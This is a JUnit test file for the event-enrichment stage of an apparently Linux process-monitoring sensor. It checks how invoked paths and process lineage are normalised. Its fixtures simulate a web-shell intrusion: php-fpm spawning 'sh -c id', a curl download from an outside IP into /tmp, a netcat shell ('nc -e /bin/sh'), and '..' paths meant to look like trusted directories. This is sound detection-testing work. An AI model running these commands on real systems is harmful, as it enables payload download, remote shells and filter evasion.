package io.spawnwatch.enrich;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.spawnwatch.event.Field;
import io.spawnwatch.event.TestRecords;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;

class EnrichedEventTest {
    private static final Path NO_PROC = Path.of("/nonexistent-proc");

    private final ProcessTable table = new ProcessTable(64, NO_PROC);

    private EnrichedEvent event() {
        return new EnrichedEvent(table, new UserNames(Path.of("/nonexistent-passwd")), new ContainerIds(NO_PROC),
                new BootClock());
    }

    /** Decodes, then records a kept exec as the pipeline's process stage does. */
    private void wrap(EnrichedEvent ev, java.lang.foreign.MemorySegment record) {
        assertTrue(ev.wrap(record, 0));
        if (ev.type() == io.spawnwatch.event.EventType.EXEC) {
            table.recordExec(ev.exec());
        }
    }

    @Test
    void shouldHoldThePortAndTheAddressOfOneSideAtOnce() {
        EnrichedEvent ev = event();
        assertTrue(ev.wrap(TestRecords.connect(4242, 4000, "php-fpm8.2", "php-fpm8.2", 33, 4000, 1, "10.0.0.2",
                "10.0.0.7", 8080), 0));
        CharSequence address = ev.text(Field.DESTINATION_IP);
        CharSequence port = ev.text(Field.DESTINATION_PORT);
        CharSequence source = ev.text(Field.SOURCE_IP);
        assertEquals("10.0.0.7", address.toString());
        assertEquals("8080", port.toString());
        assertEquals("10.0.0.2", source.toString());
        assertNull(ev.text(Field.SOURCE_PORT), "the tracepoint reports no source port");
    }

    @Test
    void shouldWorkEachFieldOutOncePerEventAndAgainForTheNext() {
        EnrichedEvent ev = event();
        wrap(ev, TestRecords.exec(4000, 1, "php-fpm8.2", "systemd", "/usr/sbin/php-fpm8.2", "/", "/sbin/init", 33,
                0, 0, "php-fpm: pool www"));
        wrap(ev, TestRecords.exec(4242, 4000, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www", "/usr/sbin/php-fpm8.2",
                33, 4000, 1, "sh", "-c", "id"));
        CharSequence image = ev.text(Field.IMAGE);
        assertSame(image, ev.text(Field.IMAGE));
        assertEquals("/usr/bin/dash", image.toString());
        assertEquals("sh -c id", ev.text(Field.COMMAND_LINE).toString());
        assertEquals("php-fpm: pool www", ev.text(Field.PARENT_COMMAND_LINE).toString());
        assertEquals("33", ev.text(Field.USER).toString());

        wrap(ev, TestRecords.exec(4243, 4242, "curl", "sh", "/usr/bin/curl", "/var/www", "/usr/bin/dash", 33, 4000, 2,
                "curl", "-so", "/tmp/x", "http://203.0.113.5/x"));
        assertEquals("/usr/bin/curl", ev.text(Field.IMAGE).toString());
        assertEquals("sh -c id", ev.text(Field.PARENT_COMMAND_LINE).toString());
        assertEquals("curl", ev.text(Field.PROCESS_NAME).toString());
        assertEquals("sh", ev.text(Field.PARENT_NAME).toString());
        assertEquals("php-fpm8.2 > sh > curl", ev.text(Field.LINEAGE_CHAIN).toString());
    }

    /** The web shell's sh -c, then nc started by its alternatives symlink: the kernel runs nc.openbsd. */
    private java.lang.foreign.MemorySegment nc(String filename, String cwd) {
        return TestRecords.startedAs(TestRecords.exec(4243, 4242, "nc", "sh", "/usr/bin/nc.openbsd", cwd,
                "/usr/bin/dash", 33, 4000, 2, "nc", "-w1", "127.0.0.1", "9"), filename);
    }

    @Test
    void shouldCarryThePathAProgramWasStartedByWhenItIsASymlink() {
        EnrichedEvent ev = event();
        wrap(ev, nc("/usr/bin/nc", "/var/www"));
        assertEquals("/usr/bin/nc.openbsd", ev.text(Field.IMAGE).toString(), "Image stays the resolved file");
        assertEquals("/usr/bin/nc", ev.text(Field.INVOKED_PATH).toString());
        assertNull(ev.text(Field.SCRIPT_PATH), "not a script");
    }

    @Test
    void shouldLeaveTheInvokedPathOutWhenItIsTheExecutablesOwnPath() {
        EnrichedEvent ev = event();
        wrap(ev, TestRecords.exec(4243, 4242, "curl", "sh", "/usr/bin/curl", "/var/www", "/usr/bin/dash", 33, 4000,
                2, "curl", "http://203.0.113.5/"));
        assertNull(ev.text(Field.INVOKED_PATH));
        // A relative path that lands on the executable itself adds nothing either.
        wrap(ev, TestRecords.startedAs(TestRecords.exec(4244, 4242, "x", "sh", "/tmp/.d/x", "/tmp/.d",
                "/usr/bin/dash", 33, 4000, 2, "./x"), "./x"));
        assertNull(ev.text(Field.INVOKED_PATH));
    }

    @Test
    void shouldMakeARelativeInvokedPathAbsoluteAgainstTheWorkingDirectory() {
        EnrichedEvent ev = event();
        wrap(ev, nc("./nc", "/tmp/.d/"));
        assertEquals("/tmp/.d/nc", ev.text(Field.INVOKED_PATH).toString());
        wrap(ev, nc(".//./bin/nc", "/srv"));
        assertEquals("/srv/bin/nc", ev.text(Field.INVOKED_PATH).toString());
        wrap(ev, nc("../bin/nc", "/usr/lib"));
        assertEquals("/usr/bin/nc", ev.text(Field.INVOKED_PATH).toString());
    }

    /**
     * Image conditions match the invoked path too, so a path that only looks as if it were under a directory a
     * filter trusts must not read so: . and .. are taken out.
     */
    @Test
    void shouldTakeDotAndDotDotOutOfTheInvokedPath() {
        EnrichedEvent ev = event();
        java.lang.foreign.MemorySegment payload = TestRecords.exec(4248, 4242, "p", "sh", "/tmp/.d/p", "/usr/sbin",
                "/usr/bin/dash", 33, 4000, 2, "p");
        wrap(ev, TestRecords.startedAs(payload, "/usr/sbin/../../tmp/.d/p"));
        assertNull(ev.text(Field.INVOKED_PATH), "it is the executable's own path");
        wrap(ev, TestRecords.startedAs(payload, "../../tmp/./.d//p"));
        assertNull(ev.text(Field.INVOKED_PATH), "from /usr/sbin: the executable's own path");
        wrap(ev, TestRecords.startedAs(payload, "/../../tmp/l/./"));
        assertEquals("/tmp/l", ev.text(Field.INVOKED_PATH).toString(), "never above the root");
    }

    @Test
    void shouldNormaliseAbsolutePathsByTheirComponents() {
        byte[] p = "//a/./b/../../..//c/".getBytes(java.nio.charset.StandardCharsets.UTF_8);
        assertEquals("/c", new String(p, 0, ExecFilename.normalize(p, p.length),
                java.nio.charset.StandardCharsets.UTF_8));
        byte[] root = "/..".getBytes(java.nio.charset.StandardCharsets.UTF_8);
        assertEquals("/", new String(root, 0, ExecFilename.normalize(root, root.length),
                java.nio.charset.StandardCharsets.UTF_8));
        byte[] dots = "/a/...b/..c".getBytes(java.nio.charset.StandardCharsets.UTF_8);
        assertEquals("/a/...b/..c", new String(dots, 0, ExecFilename.normalize(dots, dots.length),
                java.nio.charset.StandardCharsets.UTF_8), "names that only start with dots stay");
    }

    @Test
    void shouldGiveAScriptItsScriptPathAndNoInvokedPath() {
        EnrichedEvent ev = event();
        wrap(ev, TestRecords.script(TestRecords.exec(4245, 4242, "job.sh", "sh", "/usr/bin/dash", "/tmp",
                "/usr/bin/dash", 33, 4000, 2, "/bin/sh", "./job.sh"), "./job.sh"));
        assertEquals("/usr/bin/dash", ev.text(Field.IMAGE).toString());
        assertEquals("/tmp/job.sh", ev.text(Field.SCRIPT_PATH).toString());
        assertNull(ev.text(Field.INVOKED_PATH), "a script's path is its script path");
    }

    @Test
    void shouldGiveTheParentsInvokedPathFromItsOwnExec() {
        EnrichedEvent ev = event();
        wrap(ev, nc("/usr/bin/nc", "/var/www"));
        // nc -e /bin/sh: the shell nc runs has nc as its parent.
        wrap(ev, TestRecords.startedAs(TestRecords.exec(4246, 4243, "sh", "nc", "/usr/bin/dash", "/var/www",
                "/usr/bin/nc.openbsd", 33, 4000, 3, "/bin/sh"), "/bin/sh"));
        assertEquals("/bin/sh", ev.text(Field.INVOKED_PATH).toString());
        assertEquals("/usr/bin/nc.openbsd", ev.text(Field.PARENT_IMAGE).toString());
        assertEquals("/usr/bin/nc", ev.text(Field.PARENT_INVOKED_PATH).toString());
        // A parent the sensor saw start by its own path has none.
        wrap(ev, TestRecords.exec(4247, 4000, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www",
                "/usr/sbin/php-fpm8.2", 33, 4000, 1, "sh"));
        assertNull(ev.text(Field.PARENT_INVOKED_PATH));
    }

    @Test
    void shouldGiveANetworkEventItsProcessInvokedPathFromTheTable() {
        EnrichedEvent ev = event();
        wrap(ev, nc("/usr/bin/nc", "/var/www"));
        assertTrue(ev.wrap(TestRecords.connect(4243, 4242, "nc", "sh", 33, 4000, 2, "127.0.0.1", "127.0.0.1", 9),
                0));
        assertEquals("/usr/bin/nc.openbsd", ev.text(Field.IMAGE).toString());
        assertEquals("/usr/bin/nc", ev.text(Field.INVOKED_PATH).toString());
    }
}
